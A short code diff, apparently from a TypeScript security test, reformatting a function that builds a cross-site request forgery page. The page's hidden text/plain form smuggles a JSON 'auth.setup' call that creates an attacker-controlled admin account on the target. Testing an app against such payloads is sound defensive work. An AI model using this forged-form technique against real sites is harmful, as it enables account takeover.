@@ -16,7 +16,10 @@ const received: { cookie: string | undefined }[] = [];
 function attackPage(target: string): string {
   const setup = JSON.stringify({
     method: 'auth.setup',
-    input: { community: { communityName: '攻击者社区', unitName: '攻击者社区' }, admin: { username: 'evil', displayName: '攻击者', password: 'Evil-takeover-2026' } },
+    input: {
+      community: { communityName: '攻击者社区', unitName: '攻击者社区' },
+      admin: { username: 'evil', displayName: '攻击者', password: 'Evil-takeover-2026' },
+    },
   });
   return `<!doctype html><meta charset="utf-8"><title>attack</title>
 <form id="f" method="POST" action="${target}/api/call" enctype="text/plain" target="sink"><input name='${setup.slice(0, -1)}, "x": "' value='"}'></form>
